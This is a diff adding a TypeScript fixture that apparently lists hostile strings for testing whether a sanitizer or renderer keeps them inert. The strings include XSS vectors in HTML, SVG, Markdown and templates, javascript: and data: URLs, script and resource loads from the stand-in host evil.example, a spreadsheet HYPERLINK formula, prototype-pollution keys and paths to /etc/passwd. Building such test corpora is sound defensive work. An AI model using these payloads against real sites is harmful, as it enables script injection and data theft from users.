@@ -1,0 +1,101 @@
+// Texts that would run, load or change something if they were ever taken for more than text. Whatever runs sets `burrRan`.
+
+const run = "burrRan=1;alert(1)";
+const far = "//evil.example/x";
+
+const elements = [
+  `<script>${run}</script>`,
+  `<ScRiPt>${run}</sCrIpT>`,
+  `<script src=${far}.js></script>`,
+  `<script type=module>import("https:${far}.js")</script>`,
+  `</script><script>${run}</script>`,
+  `--><script>${run}</script><!--`,
+  `]]><script>${run}</script>`,
+  `</title></style></textarea></noscript><script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `<img src=x:x onerror=${run}//`,
+  `"><img src=x onerror=${run}>`,
+  `'><img src=x onerror='${run}'>`,
+  `<img src="https:${far}.png">`,
+  `<img srcset="https:${far}.png 2x">`,
+  `<image src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
+  `<iframe src="javascript:${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<base href="https:${far}/">`,
+  `<link rel=stylesheet href="https:${far}.css">`,
+  `<link rel=prefetch href="https:${far}">`,
+  `<meta http-equiv=refresh content="0;url=https:${far}">`,
+  `<form action="https:${far}"><button autofocus onfocus=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<details open ontoggle=${run}>`,
+  `<video poster="https:${far}.png"><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<body onload=${run}>`,
+  `<marquee onstart=${run}>`,
+  `<style>@import "https:${far}.css"; body{background:url(https:${far}.png)}</style>`,
+  `<div style="background:url(https:${far}.png)">x</div>`,
+  `<a href="javascript:${run}">x</a>`,
+  `<custom-element onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `\u003cimg src=x onerror=${run}\u003e`,
+  `&lt;img src=x onerror=${run}&gt;`,
+  `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(run)}%3E`,
+];
+
+const addresses = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java\tscript:${run}`,
+  ` javascript:${run}`,
+  `javascript://%0a${run}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${run}</script>`,
+  `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}`,
+  `https:${far}.png`,
+  far,
+  `file:///etc/passwd`,
+];
+
+const markdown = [
+  `![picture](https:${far}.png)`,
+  `![picture](x "onerror=${run}")`,
+  `[press](javascript:${run})`,
+  `[press]( &#106;avascript:${run})`,
+  `[ref]: javascript:${run}\n[ref]`,
+  `<javascript:${run}>`,
+  `<https:${far}>`,
+  `<img src=x onerror=${run}>\n\n# heading`,
+  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
+  `| a | <img src=x onerror=${run}> |\n| - | - |`,
+];
+
+const programs = [
+  `';${run};'`,
+  `";${run};//`,
+  `\`\${${run}}\``,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `<%= ${run} %>`,
+  `__proto__`,
+  `constructor`,
+  `toString`,
+  `{"$$typeof":"react.element","type":"img","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
+  `=HYPERLINK("https:${far}")`,
+  `\u202E${run}\u202C`,
+  `\u001B[31m${run}\u001B[0m`,
+  `a\u0000b\u200B\uFEFF<b>`,
+  `../../../etc/passwd`,
+  `?q=x#sel=y&s=1`,
+];
+
+/** All of them: as markup, as addresses, as Markdown, and as parts of programs. */
+export const hostileTexts: readonly string[] = [...elements, ...addresses, ...markdown, ...programs];
